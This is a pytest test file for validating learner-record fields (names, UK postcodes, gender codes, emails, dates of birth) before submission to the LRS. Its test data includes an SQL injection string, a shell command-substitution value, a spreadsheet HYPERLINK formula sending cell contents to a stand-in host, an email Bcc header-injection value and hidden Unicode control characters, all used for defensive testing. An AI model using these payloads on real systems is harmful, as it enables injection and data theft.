"""Single values as the LRS takes them."""

import unicodedata
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from states.learner import checks


def code(fault):
    return fault.code if fault else None


@pytest.mark.parametrize(
    "name",
    [
        "O'Brien-Łęcki", "Zoe\u0308", "van der Berg", "A", "x" * 35, "-Smith", "Robert'); DROP TABLE learner;--",
        "%s{0}$(id)", "[link=http://e]x[/link]", "[/oops]", "D’Arcy", "  Jennifer ", "李", "e\u0301" * 35,
    ],
)  # fmt: skip
def test_real_and_odd_names_are_taken(name):
    assert checks.name_fault(name) is None


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("", "empty"),
        ("   \u00a0", "empty"),
        ("\u0301", "empty"),
        ("x" * 36, "too_long"),
        ("Sm\x1bith", "control"),
        ("Sm\x00ith", "control"),
        ("Smith\n", "control"),
        ("\tSmith", "control"),
        ("Sm\u2028ith", "control"),
        ("Sm\u202eith", "hidden"),
        ("Sm\u200bith", "hidden"),
        ("Sm\u2066ith", "hidden"),
        ("\ufeffSmith", "hidden"),
        ("Sm\u3164ith", "hidden"),
        ("Sm\ud800ith", "surrogate"),
        ("Sm😀ith", "emoji"),
        ("Smith ❤", "emoji"),
        ('=HYPERLINK("http://e/?"&A1)', "formula_start"),
        ("+441234", "formula_start"),
        ("@x", "formula_start"),
        (" =1+1", "formula_start"),
        ("＝1+1", "formula_start"),
        ("＋44", "formula_start"),
        (" ＠x", "formula_start"),
    ],
)
def test_names_the_lrs_cannot_take_are_refused_without_showing_them(name, expected):
    fault = checks.name_fault(name)
    assert code(fault) == expected
    assert not name.strip() or name not in repr(fault)


@given(st.text(alphabet=st.characters(categories=["L", "M", "Zs"]), min_size=1, max_size=40))
def test_a_cleaned_name_is_nfc_and_cleaning_it_again_changes_nothing(text):
    cleaned = checks.clean_name(text)
    assert unicodedata.is_normalized("NFC", cleaned)
    assert checks.clean_name(cleaned) == cleaned
    assert checks.clean_name(unicodedata.normalize("NFD", text)) == cleaned


@pytest.mark.parametrize(
    ("text", "normal"),
    [
        ("ZZ99 9ZZ", "ZZ99 9ZZ"), ("CV49EE", "CV4 9EE"), ("GIR 0AA", "GIR 0AA"), ("BFPO 123", "BFPO 123"),
        ("bfpo1", "BFPO 1"), ("EC1A 1BB", "EC1A 1BB"), ("wa3y3qt", "WA3Y 3QT"), (" sw1a  1aa ", "SW1A 1AA"),
        ("B8 6XA    ", "B8 6XA"),
    ],
)  # fmt: skip
def test_postcodes_are_put_into_one_form(text, normal):
    assert checks.postcode_fault(text) is None
    assert checks.normalise_postcode(text) == normal


@pytest.mark.parametrize(
    "text",
    ["M1 1AC", "AB1 2IK", "75001", "D02 AF30", "", " ", "SW1A\n1AA", "ſW1A 1AA", "BFPO 12345", "AB1", "１A1 1AA"],
)
def test_postcodes_of_another_form_are_refused(text):
    assert checks.postcode_fault(text)


@pytest.mark.parametrize("value", ["1", "0", "2", "9"])
def test_the_gender_codes_of_the_lrs_are_taken(value):
    assert checks.gender_fault(value) is None


@pytest.mark.parametrize("value", ["3", "m", "M", "TRUE", "", "１"])
def test_any_other_gender_is_refused_with_the_list(value):
    assert "1 (male)" in checks.gender_fault(value).fix


def test_the_other_codes_are_held_against_their_lists():
    assert checks.ability_fault("2") is None
    assert code(checks.ability_fault("3")) == "ability_code"
    assert checks.id_type_fault("999", {"2", "999"}) is None
    assert checks.id_type_fault("8", {"999", "2", "10"}).fix == "Use one of 2, 10, 999."


@pytest.mark.parametrize("text", ["a@b.uk", "o'neil+x@mail.example.org", "a.b@ex-ample.museum"])
def test_mail_addresses_of_the_lrs_form_are_taken(text):
    assert checks.email_fault(text) is None


@pytest.mark.parametrize(
    "text",
    ["", "a@b", "a@b.c", "a@b.technology", "a b@c.uk", "a@b.uk\nBcc: x@y.uk", "ä@b.uk", "a@@b.uk", "a" * 250 + "@b.uk"],
)
def test_other_mail_addresses_are_refused(text):
    assert checks.email_fault(text)


def test_a_birthday_on_29_february_is_kept_on_1_march():
    born = date(2004, 2, 29)
    assert checks.age_on(born, date(2017, 2, 28)) == 12
    assert checks.age_on(born, date(2017, 3, 1)) == 13
    assert checks.age_on(born, date(2024, 2, 29)) == 20


@given(st.dates(date(1900, 1, 1), date(2000, 1, 1)), st.dates(date(2001, 1, 1), date(2100, 1, 1)))
def test_age_grows_by_one_a_year(born, day):
    age = checks.age_on(born, day)
    assert (born.year + age, born.month, born.day) <= (day.year, day.month, day.day)
    assert (born.year + age + 1, born.month, born.day) > (day.year, day.month, day.day)


@pytest.mark.parametrize(
    ("text", "day_first", "expected"),
    [
        ("2004-02-29", True, date(2004, 2, 29)),
        ("2004-03-01", False, date(2004, 3, 1)),
        ("7/4/1988", True, date(1988, 4, 7)),
        ("7/4/1988", False, date(1988, 7, 4)),
        ("07.04.1988", True, date(1988, 4, 7)),
        ("31-01-1999", True, date(1999, 1, 31)),
    ],
)
def test_dates_in_figures_are_read_by_the_setting(text, day_first, expected):
    value, _note, fault = checks.read_date(text, day_first)
    assert (value, fault) == (expected, None)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2005-02-29", "date_impossible"),
        ("2005-02-30", "date_impossible"),
        ("31/02/1999", "date_impossible"),
        ("04/25/1988", "date_impossible"),
        ("0001-01-01", "date_year"),
        ("1899-12-31", "date_year"),
        ("01/01/2101", "date_year"),
        ("20050228", "date_form"),
        ("2005-W01-1", "date_form"),
        ("03/04/05", "date_form"),
        ("3/4-2005", "date_form"),
        ("٣/٤/٢٠٠٥", "date_form"),
        ("2005-02-28\n", "date_form"),
        ("28 Feb 2005", "date_form"),
        ("", "date_form"),
    ],
)
def test_other_dates_are_refused_without_showing_them(text, expected):
    value, note, fault = checks.read_date(text, day_first=True)
    assert (value, note) == (None, None)
    assert code(fault) == expected
    assert not text or text not in repr(fault)


def test_a_date_that_could_be_two_days_gets_a_note_in_words():
    assert "day first" in checks.read_date("7/4/1988", day_first=True)[1]
    assert "month first" in checks.read_date("7/4/1988", day_first=False)[1]
    assert checks.read_date("7/7/1988", day_first=True)[1] is None
    assert checks.read_date("17/4/1988", day_first=True)[1] is None
    assert checks.read_date("1988-04-07", day_first=False)[1] is None


def test_a_date_in_the_other_order_is_refused_with_a_hint_at_the_setting():
    assert "setting" in checks.read_date("04/25/1988", day_first=True)[2].fix
